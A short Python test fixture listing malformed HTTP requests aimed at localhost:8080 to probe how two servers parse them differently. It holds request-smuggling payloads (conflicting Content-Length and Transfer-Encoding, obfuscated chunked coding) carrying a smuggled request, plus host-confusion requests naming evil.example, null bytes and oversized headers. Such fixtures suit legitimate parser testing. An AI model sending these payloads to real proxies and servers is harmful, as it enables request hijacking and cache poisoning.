"""Requests that two servers could read differently, by what is wrong with them."""

from __future__ import annotations

HOST = "Host: localhost:8080"
SMUGGLED = "GET /account/smuggled HTTP/1.1\r\nHost: localhost:8080\r\n\r\n"
SHAPES = {
    "both lengths": f"POST /cart HTTP/1.1\r\n{HOST}\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{SMUGGLED}",
    "two lengths": f"POST /cart HTTP/1.1\r\n{HOST}\r\nContent-Length: 0\r\nContent-Length: 60\r\n\r\n{SMUGGLED}",
    "length with sign": f"POST /cart HTTP/1.1\r\n{HOST}\r\nContent-Length: +0\r\n\r\n{SMUGGLED}",
    "length with comma": f"POST /cart HTTP/1.1\r\n{HOST}\r\nContent-Length: 0, 60\r\n\r\n{SMUGGLED}",
    "unknown coding": f"POST /cart HTTP/1.1\r\n{HOST}\r\nTransfer-Encoding: xchunked\r\n\r\n{SMUGGLED}",
    "coding twice": f"POST /cart HTTP/1.1\r\n{HOST}\r\nTransfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n{SMUGGLED}",
    "space before colon": f"POST /cart HTTP/1.1\r\n{HOST}\r\nTransfer-Encoding : chunked\r\nContent-Length: 4\r\n\r\nabcd{SMUGGLED}",
    "bad chunk size": f"POST /cart HTTP/1.1\r\n{HOST}\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{SMUGGLED}",
    "two hosts": f"GET /p/pot HTTP/1.1\r\n{HOST}\r\nHost: evil.example\r\n\r\n",
    "no host": "GET /p/pot HTTP/1.1\r\n\r\n",
    "null in header": f"GET /p/pot HTTP/1.1\r\n{HOST}\r\nX-A: a\0b\r\n\r\n",
    "null in path": f"GET /p/p\0ot HTTP/1.1\r\n{HOST}\r\n\r\n",
    "bare return in path": f"GET /p/p\rot HTTP/1.1\r\n{HOST}\r\n\r\n",
    "UTF-8 in path": f"GET /p/p\xc3\xb6t HTTP/1.1\r\n{HOST}\r\n\r\n",
    "no version": "GET /p/pot\r\n\r\n",
    "version 2": f"GET /p/pot HTTP/2.0\r\n{HOST}\r\n\r\n",
    "HTTP/2 preface": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "connect": f"CONNECT localhost:8080 HTTP/1.1\r\n{HOST}\r\n\r\n",
    "https to the root": f"GET https://localhost:8080/ HTTP/1.1\r\n{HOST}\r\n\r\n",
    "absolute form of another": f"GET http://evil.example/p/pot HTTP/1.1\r\n{HOST}\r\n\r\n",
    "header of 20 kB": f"GET /p/pot HTTP/1.1\r\n{HOST}\r\nX-A: {'a' * 20000}\r\n\r\n",
    "200 headers": f"GET /p/pot HTTP/1.1\r\n{HOST}\r\n{''.join(f'X-{n}: a' + chr(13) + chr(10) for n in range(200))}\r\n",
}
